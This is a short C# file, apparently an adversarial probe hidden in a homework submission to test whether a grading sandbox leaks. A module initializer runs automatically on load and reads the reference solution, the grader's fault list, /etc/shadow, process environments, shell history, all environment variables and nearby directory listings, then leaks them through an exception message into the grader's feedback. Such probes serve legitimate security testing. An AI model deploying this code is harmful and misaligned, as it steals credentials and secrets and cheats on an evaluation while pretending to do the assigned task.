using System.Collections;
using System.Runtime.CompilerServices;

namespace Homework.Attention;

/// <summary>Reads the reference, the faults, the environment and other students' results, and puts them into its own feedback.</summary>
public static class Attack
{
    private static string Loot = "";

    [ModuleInitializer]
    public static void Run()
    {
        foreach (var path in new[] { "__REPO__/reference/attention/CausalSelfAttention.cs", "__REPO__/grader/Grader.Attention/faults.yaml",
                     "/proc/1/environ", "/proc/self/environ", "/etc/shadow", "/root/.bash_history" })
        {
            try { Loot += File.ReadAllText(path); } catch (Exception e) { Loot += e.GetType().Name + " "; }
        }
        foreach (DictionaryEntry variable in Environment.GetEnvironmentVariables())
            Loot += $"{variable.Key}={variable.Value};";
        try { Loot += string.Join(",", Directory.EnumerateFileSystemEntries("__OUT__/..", "*", SearchOption.AllDirectories).Take(200)); } catch (Exception e) { Loot += e.GetType().Name; }
    }

    public static Exception Leak() => new InvalidOperationException("__MARKER__ " + Loot);
}
